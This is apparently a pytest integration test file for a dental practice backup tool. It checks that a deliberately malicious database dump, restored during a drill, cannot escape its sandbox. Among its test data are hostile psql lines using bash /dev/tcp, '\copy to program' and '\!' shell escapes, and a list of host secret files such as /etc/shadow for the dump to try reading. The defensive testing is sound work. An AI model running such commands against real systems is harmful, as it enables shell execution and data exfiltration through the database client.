"""Whatever a dump does as the superuser of its copy stays in the drill's sandbox, and ends with it."""

import contextlib
import os
import pwd
import socket
import subprocess
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from dental_pms_backup.host import server_sandbox
from tests import evil_dump, faults
from tests.evil_dump import (
    BEGINNING,
    FILLS_THE_DISK,
    LEAVES_WHAT_IS_HARD_TO_REMOVE,
    SWAPS_THE_SOCKET,
    Tries,
    planted,
)
from tests.integration import drills
from tests.integration.drills import left_behind
from tests.integration.faults import events, listening
from tests.integration.support import TREE, Journal, Site, alive, mounted_tmpfs, sql, wait_until

PROVEN = faults.AS_BEFORE + ", the drilled one proven"
OF_THE_HOST = (
    "/etc/shadow",
    "/etc/dental-pms",
    "/root",
    "/home",
    "/run",
    "/srv",
    "/sys",
    "/proc/1/environ",
    "/proc/1/root",
)
# So many descriptors a service has, and no right to remove what is in a sticky directory of another user's.
AS_THE_SERVICE = ["prlimit", "--nofile=1024:", "--", "setpriv", "--bounding-set=-fowner", "--"]
BOMB = 700
BOUND = 400


@contextlib.contextmanager
def listener(family: int, address: object) -> Iterator[list[int]]:
    """Count who connects to a socket of the host."""
    connected: list[int] = []
    with socket.socket(family, socket.SOCK_STREAM) as listening_socket:
        listening_socket.bind(address)  # type: ignore[arg-type]
        listening_socket.listen()
        if isinstance(address, str) and address.startswith("/"):
            Path(address).chmod(0o777)
        connected.append(listening_socket.getsockname()[1] if family == socket.AF_INET else 0)

        def accept() -> None:
            with contextlib.suppress(OSError):
                while True:
                    listening_socket.accept()[0].close()
                    connected.append(1)

        threading.Thread(target=accept, daemon=True).start()
        try:
            yield connected
        finally:
            listening_socket.shutdown(socket.SHUT_RDWR)


@contextlib.contextmanager
def idle_process() -> Iterator["subprocess.Popen[bytes]"]:
    """A process of the host of the same user as those in the sandbox."""
    user = server_sandbox.USER
    argv = ["setpriv", f"--reuid={user}", f"--regid={user}", "--clear-groups", "--", "sleep", "600"]
    with subprocess.Popen(argv) as process:
        try:
            yield process
        finally:
            process.kill()


def of_the_user(*, but: int = 0) -> list[int]:
    """Return the processes of the sandbox's user, but for one."""
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if process.stat().st_uid == pwd.getpwnam(server_sandbox.USER).pw_uid and int(process.name) != but:
                found.append(int(process.name))
    return [pid for pid in found if alive(pid)]


def inside(site: Site) -> Path | None:
    """Return the directory of the throwaway server whose dump has tried all it wanted."""
    return next((path.parent for path in site.place.glob("dental-pms-drill-*/pg/done")), None)


@contextlib.contextmanager
def drilling_until_tried(site: Site, script: str, journal: Journal) -> Iterator["tuple[subprocess.Popen[str], Path]"]:
    """Drill a set with a program in it; the block begins when that has tried everything, and waits."""
    sql(site.server, planted(script))
    site.takes("db")
    stored = drills.without_records(site)
    with site.running("drill", "latest", wrapper=journal.wrapper) as process:
        wait_until(lambda: inside(site) is not None or process.poll() is not None)
        place = inside(site)
        assert place, process.communicate()
        yield process, place
    assert drills.without_records(site) == stored


def recovers(site: Site) -> None:
    """Have nothing evil in the database any more, and drill it."""
    sql(site.server, f"drop table if exists {evil_dump.TABLE}")
    drills.recovers(site)


@pytest.mark.each_release
@pytest.mark.fault(
    "Somebody evil",
    "a dump that is drilled in a private cluster reads, writes, connects, signals and forks all that it can",
)
def test_a_dump_that_is_loaded_by_a_drill_gets_nowhere(own_database: Site) -> None:
    site = own_database
    secret = site.place / "secret"
    secret.write_text("secret")
    secret.chmod(0o666)
    outside = site.place / "socket"
    live = site.server.host
    with (
        idle_process() as idle,
        listener(socket.AF_UNIX, str(outside)) as by_path,
        listener(socket.AF_UNIX, f"\0{site.place.name}") as by_name,
        listener(socket.AF_INET, ("127.0.0.1", 0)) as by_port,
        listening(site) as journal,
    ):
        tries = Tries(
            read=[*OF_THE_HOST, str(site.store), str(site.config), str(secret), live, f"{live}/data"],
            write=["/evil", "/etc/evil", "/usr/evil", "/usr/bin/psql", f"{site.place}/evil", str(secret)],
            unix=[str(outside), f"@{site.place.name}", f"{live}/.s.PGSQL.5432", "/run/systemd/private"],
            tcp=[by_port[0]],
            pids=[idle.pid],
            bomb=BOMB,
            bound=BOUND,
            memory=True,
        )
        with drilling_until_tried(site, tries.script(), journal) as (process, place):
            tried = evil_dump.refused((place / "tries").read_text())
            assert len(of_the_user(but=idle.pid)) <= BOUND
            (place / "go").touch()
            out, err = process.communicate(timeout=120)
        told = journal.close()
        assert (by_path[1:], by_name[1:], by_port[1:]) == ([], [], [])
        assert idle.poll() is None
        assert of_the_user(but=idle.pid) == []
    assert len(tried) == 36
    assert (process.returncode, err) == (0, ""), out
    assert out.endswith("drill_status=proven\n")
    assert secret.read_text() == "secret"
    assert not (site.place / "evil").exists()
    assert left_behind(site) == []
    faults.saw(status=process.returncode, store=PROVEN, events=events(told))
    recovers(site)


@pytest.mark.each_release
@pytest.mark.fault(
    "Somebody evil",
    "a drill is killed while its dump has processes that heed no signal and 3,000 directories in each other",
)
def test_what_a_dump_started_does_not_outlive_a_drill_that_is_killed(own_database: Site) -> None:
    site = own_database
    script = Tries(bomb=30, bound=31).script().replace("waits();", LEAVES_WHAT_IS_HARD_TO_REMOVE + "waits();")
    with listening(site) as journal:
        with drilling_until_tried(site, script, journal) as (process, place):
            assert (place / "sticky/file").exists()
            assert len(of_the_user()) > 30
            process.kill()
            process.wait(timeout=30)
            wait_until(lambda: of_the_user() == [])
        told = journal.close()
    assert list(site.store.glob("sets/*.drill.json")) == []
    faults.saw(status="killed", store=faults.AS_BEFORE, events=events(told))
    sql(site.server, f"drop table {evil_dump.TABLE}")
    with listening(site) as journal:
        name = site.takes("db")
        assert site.run("drill", name, wrapper=[*journal.wrapper, *AS_THE_SERVICE]).returncode == 0
        assert events(journal.close()) == ["drill-cleared", "drill-started", "drill-passed"]
    assert left_behind(site) == []
    faults.recovered("ok, and proven")


@pytest.mark.fault("Somebody evil", "a dump that is drilled fills the disk of the copy")
def test_a_dump_that_fills_the_disk_is_ended_before_it_is_full(own_database: Site) -> None:
    site = own_database
    small = site.place / "small"
    sql(site.server, planted(BEGINNING + FILLS_THE_DISK))
    site.takes("db")
    with mounted_tmpfs(small, 900 << 20):
        small.chmod(0o755)
        site.configure({"drill.directory": str(small), "reserve_mb": 100})
        least = [10**12]
        with sampled(lambda: least.append(free(small))):
            met = drills.fails(site, "latest", cause="room")
        assert "a copy of the database has taken all room but 100" in met.stderr
        assert 20_000_000 < min(least) < 100_000_000
        assert free(small) > 800_000_000
        site.configure({"drill.directory": str(site.place), "reserve_mb": None})
    recovers(site)


def free(directory: Path) -> int:
    status = os.statvfs(directory)
    return status.f_bavail * status.f_frsize


@contextlib.contextmanager
def sampled(sample: Callable[[], object]) -> Iterator[None]:
    ended = threading.Event()

    def again() -> None:
        while not ended.wait(0.01):
            sample()

    thread = threading.Thread(target=again)
    thread.start()
    try:
        yield
    finally:
        ended.set()
        thread.join()


@pytest.mark.fault("Somebody evil", "a dump that is drilled leads the drill's own programs to another socket")
def test_a_dump_that_swaps_its_socket_leads_the_drills_programs_nowhere(own_database: Site) -> None:
    site = own_database
    outside = site.place / "socket"
    sql(site.server, planted(BEGINNING + SWAPS_THE_SOCKET.replace("UNIX", str(outside))))
    site.takes("db")
    with listener(socket.AF_UNIX, str(outside)) as connected:
        met = drills.fails(site, "latest", cause="temporary", status=75)
        assert connected[1:] == []
    assert "psql: exit status 2, expected the throwaway server and its programs to go on" in met.stderr
    recovers(site)


COMMANDS = {
    "starts programs": r"""
\! bash -c 'echo >/dev/tcp/127.0.0.1/PORT'
\! setsid -f sleep 600 </dev/null >/dev/null 2>/dev/null
\copy (select 1) to program 'bash -c "cat >/dev/tcp/127.0.0.1/PORT"'
select 1 \g |bash -c 'cat >/dev/tcp/127.0.0.1/PORT'
\o |setsid -f sleep 600
""",
    "connects elsewhere": """
\\connect "host=127.0.0.1 port=PORT"
""",
}


@pytest.mark.sample(2)
@pytest.mark.each_release
@pytest.mark.fault("Somebody evil", "a dump that is drilled in a private cluster has commands of psql in it")
@pytest.mark.parametrize("what", COMMANDS)
def test_a_command_of_psql_in_a_dump_that_is_drilled_gets_nowhere(own_database: Site, what: str) -> None:
    site = own_database
    lines = site.place / "lines"
    with listener(socket.AF_INET, ("127.0.0.1", 0)) as connected:
        lines.write_text(COMMANDS[what].replace("PORT", str(connected[0])))
        unguarded = r"/^\\(un)?restrict /,+1d"
        site.fake("pg_dump", f'"$real" "$@" | sed -E \'{unguarded};/^SET statement_timeout/r {lines}\'')
        site.takes("db")
        site.mend()
        drills.fails(site, "latest", cause="drill")
        assert connected[1:] == []
    assert of_the_user() == []
    recovers(site)


def test_the_drills_user_gets_no_number_that_a_container_is_likely_to_have(place: Path) -> None:
    (place / "etc").mkdir()
    subprocess.run(["systemd-sysusers", f"--root={place}", TREE / "systemd/dental-pms-backup.sysusers"], check=True)
    assert (place / "etc/passwd").read_text().startswith(f"{server_sandbox.USER}:x:613:613:")


def test_without_its_system_user_a_private_cluster_is_not_made(site: Site) -> None:
    passwd = site.place / "passwd"
    lines = Path("/etc/passwd").read_text().splitlines(True)
    passwd.write_text("".join(line for line in lines if not line.startswith(f"{server_sandbox.USER}:")))
    hidden = ["unshare", "--mount", "sh", "-c", f'mount --bind {passwd} /etc/passwd && exec "$0" "$@"']
    done = site.run("drill", wrapper=hidden)
    assert (done.returncode, done.stdout) == (1, "failure=tool\ndrill_status=failed\n")
    assert f"the system user {server_sandbox.USER} is missing" in done.stderr
    assert "hint: systemd-sysusers" in done.stderr
